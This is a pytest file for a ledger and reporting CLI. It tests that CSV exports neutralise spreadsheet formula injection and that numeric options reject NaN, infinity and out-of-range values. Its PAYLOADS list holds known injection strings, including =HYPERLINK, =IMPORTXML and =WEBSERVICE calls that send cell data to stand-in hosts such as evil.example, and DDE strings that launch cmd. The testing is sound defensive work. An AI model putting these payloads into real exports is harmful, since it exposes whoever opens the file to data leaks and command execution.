"""CSV out never carries a live formula; numbers at the CLI are finite and within limits (exit 2)."""
from __future__ import annotations

import csv
import io
from decimal import Decimal

import pytest
from click.testing import CliRunner
from ledger_fixtures import QUOTE_YAML, SETTINGS_YAML

from assetkit.cli import cli
from assetkit.csvout import safe_cell, to_csv

#: known spreadsheet-injection payloads (OWASP CSV injection, DDE, and the issue's own)
PAYLOADS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")', "=1+2", "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+2", "\r=3+4", "=cmd|'/C notepad'!'A1'", "-1+1", "+", "-", "@", "=",
    "\n=1+1", "x\r=3+4", "x\n@evil", "x\r\n+cmd", "\uff1d1+1", "=IMPORTXML(CONCAT(\"http://e/\",A1),\"//a\")",
    "=WEBSERVICE(\"http://e\")", "@evil", "\t\t=1", "'=already quoted", "\r\n=CRLF",
]
SAFE = ["", "ok", "-12.50", "3", "+1.5", "1e3", "café = bar", "a-b", "x@y.example", "2026-04-01"]


def formula_starts(text: str) -> list[str]:
    """Every cell, and every line inside a cell, that a spreadsheet would run."""
    bad = []
    for row in csv.reader(io.StringIO(text)):
        for cell in row:
            for line in cell.replace("\r", "\n").split("\n"):
                if line[:1] in ("=", "+", "-", "@", "\t", "\uff1d") and not _number(line):
                    bad.append(line)
    return bad


def _number(text: str) -> bool:
    try:
        return Decimal(text).is_finite()
    except Exception:  # noqa: BLE001 - anything that is not a number
        return False


@pytest.mark.parametrize("payload", PAYLOADS)
def test_no_payload_survives(payload):
    text = to_csv(["a", "b"], [[payload, "x"]])
    assert formula_starts(text) == []
    rows = list(csv.reader(io.StringIO(text)))
    assert len(rows) == 2 and len(rows[1]) == 2  # a CR or LF inside a value never makes a new row
    # and naive readers that split on line breaks see no formula either
    assert all(not ln.startswith(("=", "+", "@", "\t")) for ln in text.replace("\r", "\n").split("\n"))


@pytest.mark.parametrize("value", SAFE)
def test_ordinary_values_are_unchanged(value):
    assert safe_cell(value) == value


def test_types():
    assert [safe_cell(v) for v in (None, True, -5, Decimal("-1.50"), 2.5, float("nan"))] == \
        ["", "true", "-5", "-1.50", "2.5", "nan"]


@pytest.fixture
def project(tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    for var in ("ASSETKIT_LEDGER", "ASSETKIT_SETTINGS"):
        monkeypatch.delenv(var, raising=False)
    (tmp_path / "assetkit.yaml").write_text(SETTINGS_YAML)
    return tmp_path


def run(*args):
    return CliRunner().invoke(cli, list(args))


def test_ledger_and_quotes_csv_are_neutralised(project):
    for payload in PAYLOADS:
        campaign = payload.replace("\n", " ").replace("\r", " ").strip() or "x"
        r = run("ledger", "add", "--category", "other", "--description", payload, "--baseline", "10",
                "--actual", "1", "--source", "Q-1", "--approved-by", "me", "--campaign", campaign)
        assert r.exit_code == 0, (payload, r.output)
    out = run("ledger", "list", "--csv").output
    assert formula_starts(out) == []
    assert len(list(csv.reader(io.StringIO(out)))) >= len(PAYLOADS) + 1
    quote = project / "q.yaml"
    quote.write_text(QUOTE_YAML.read_text().replace("Harbour & Finch Creative", "'=HYPERLINK(\"http://e\")'", 1))
    assert run("quotes", "import", str(quote)).exit_code == 0
    out = run("quotes", "list", "--csv").output
    assert "'=HYPERLINK" in out and formula_starts(out) == []


def test_report_csv_with_a_cr_in_a_brand_name(tmp_path):
    from report_fixtures import entry, write_ledger

    ledger = write_ledger(tmp_path / "l.sqlite", [entry(brand="\r=3+4", campaign="\n@evil", occurred_at="2026-03-01",
                                                      baseline_micros=5_000_000)])
    out = tmp_path / "r.csv"
    r = CliRunner().invoke(cli, ["report", "--ledger", str(ledger), "--out", str(out)])
    assert r.exit_code == 0, r.output
    for f in (out, tmp_path / "r-entries.csv"):
        assert formula_starts(f.read_text()) == []


# -- numbers ------------------------------------------------------------------------------------

ADD = ["ledger", "add", "--category", "crm", "--description", "d", "--source", "Q", "--approved-by", "me"]


@pytest.mark.parametrize("args, message", [
    (["ledger", "review", "R", "--minutes", "nan"], "Invalid value for '--minutes': 'nan' is not a finite number"),
    (["ledger", "review", "R", "--minutes", "inf"], "Invalid value for '--minutes': 'inf' is not a finite number"),
    (["ledger", "review", "R", "--minutes", "-inf"], "Invalid value for '--minutes': '-inf' is not a finite number"),
    (["ledger", "review", "R", "--minutes", "1e300"], "Invalid value for '--minutes': 1e300 is over the maximum of "
                                                       "6,000,000 min"),
    (["ledger", "review", "R", "--minutes", "-5"], "Invalid value for '--minutes': -5 is below the minimum of 0 min"),
    (["ledger", "review", "R", "--minutes", "ten"], "Invalid value for '--minutes': 'ten' is not a number"),
    ([*ADD, "--baseline", "1e30", "--actual", "1"],
     "Invalid value for '--baseline': 1e30 is over the maximum of 1,000,000,000,000"),
    ([*ADD, "--baseline", "1", "--actual", "NaN"],
     "Invalid value for '--actual': 'NaN' is not a finite number"),
    ([*ADD, "--baseline", "1", "--actual", "1", "--hours", "nan"],
     "Invalid value for '--hours': 'nan' is not a finite number"),
    ([*ADD, "--baseline", "1", "--actual", "1", "--hours", "inf"],
     "Invalid value for '--hours': 'inf' is not a finite number"),
    ([*ADD, "--baseline", "1", "--actual", "1",
      "--baseline-hours", "1e9"], "Invalid value for '--baseline-hours': 1e9 is over the maximum of 100,000 h"),
    ([*ADD, "--baseline", "1_000", "--actual", "1"], "Invalid value for '--baseline': '1_000' is not a number"),
    ([*ADD, "--baseline", "100.0000001", "--actual", "1"],
     "Invalid value for '--baseline': 100.0000001 has more than 6 decimals"),
    ([*ADD, "--baseline", "5", "--actual", "999999999999"],
     "--actual 999999999999 EUR is above the manual-entry limit of"),
    ([*ADD, "--baseline", "100", "--actual", "1", "--date", "9999-12-31"], "--date 9999-12-31 is in the future"),
    ([*ADD, "--baseline", "100", "--actual", "1", "--date", "1900-01-01"], "--date 1900-01-01 is before 2000-01-01"),
])
def test_numbers_at_the_cli(project, args, message):
    r = run(*args)
    assert r.exit_code == 2
    assert r.output.splitlines()[-1].startswith(f"Error: {message}"), r.output
    assert "Traceback" not in r.output


def test_every_numeric_option_uses_the_number_type():
    import click

    from assetkit.clitypes import Number

    def walk(cmd, path=""):
        if isinstance(cmd, click.Group):
            for name, sub in cmd.commands.items():
                yield from walk(sub, f"{path} {name}")
            return
        for p in cmd.params:
            if isinstance(p.type, (click.types.FloatParamType, click.FloatRange)):
                yield f"{path.strip()} {p.opts[0]}"
    assert list(walk(cli)) == []
    assert isinstance(next(p for p in cli.commands["ledger"].commands["review"].params if p.name == "minutes").type,
                      Number)


def test_report_out_with_an_unknown_extension_is_refused(tmp_path):
    from report_fixtures import entry, write_ledger

    ledger = write_ledger(tmp_path / "l.sqlite", [entry(occurred_at="2026-03-01", baseline_micros=5_000_000)])
    r = CliRunner().invoke(cli, ["report", "--ledger", str(ledger), "--out", str(tmp_path / "r.docx")])
    assert r.exit_code == 2 and ".docx is not a report format" in r.output and "--format" in r.output
    assert not (tmp_path / "r.docx").exists()
    r = CliRunner().invoke(cli, ["report", "--ledger", str(ledger), "--out", str(tmp_path / "r.docx"),
                                 "--format", "md"])
    assert r.exit_code == 0 and (tmp_path / "r.docx").read_text().startswith("# ")
